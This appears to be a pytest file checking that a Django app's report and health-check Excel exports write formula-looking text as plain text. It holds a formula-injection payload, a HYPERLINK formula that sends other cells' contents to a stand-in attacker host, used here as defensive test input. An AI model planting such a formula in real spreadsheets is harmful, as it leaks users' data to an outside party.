"""The reports and health-check exports write formula-looking text as text (``branches.excel``)."""

from __future__ import annotations

import pytest
from openpyxl import load_workbook

from health.models import HealthCheck
from reports import exports
from reports.services import reports_compute
from tests.reports.conftest import AFTER, Y

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&E2&G2,"详情")'


def _cells(path) -> list[list]:
    """Every cell of the first sheet (not read-only: a formula keeps its data type "f")."""
    return [list(row) for row in load_workbook(path).worksheets[0].iter_rows()]


def test_a_branch_name_that_looks_like_a_formula_is_exported_as_text(tree, year_data, tmp_path):
    tree.branch_a.name = FORMULA
    tree.branch_a.save(update_fields=["name"])
    reports_compute(period=str(Y), today=AFTER)
    path = tmp_path / "reports.xlsx"
    exports.reports_workbook(branch=tree.town, period=str(Y), path=path)
    header, *rows = _cells(path)
    name = next(row[1] for row in rows if row[0].value == "BA")
    assert (name.value, name.data_type) == ("'" + FORMULA, "s")
    assert not [cell for row in rows for cell in row if cell.data_type == "f"]


def test_an_adjustment_reason_that_looks_like_a_formula_is_exported_as_text(tree, year_data, orgdept, tmp_path):
    HealthCheck.objects.filter(member=year_data.a1).update(adjustment=-3, adjustment_reason=FORMULA)
    path = tmp_path / "health.xlsx"
    exports.health_workbook(branch=tree.town, period=str(Y), user=orgdept, path=path)
    header, *rows = _cells(path)
    labels = [cell.value for cell in header]
    row = next(r for r in rows if r[labels.index("姓名")].value == "甲一")
    reason = row[labels.index("调整理由")]
    assert (reason.value, reason.data_type) == ("'" + FORMULA, "s")
    adjustment = row[labels.index("支部调整")]
    assert adjustment.value == -3 and adjustment.data_type == "n"  # a negative number stays a number
    assert not [cell for r in rows for cell in r if cell.data_type == "f"]
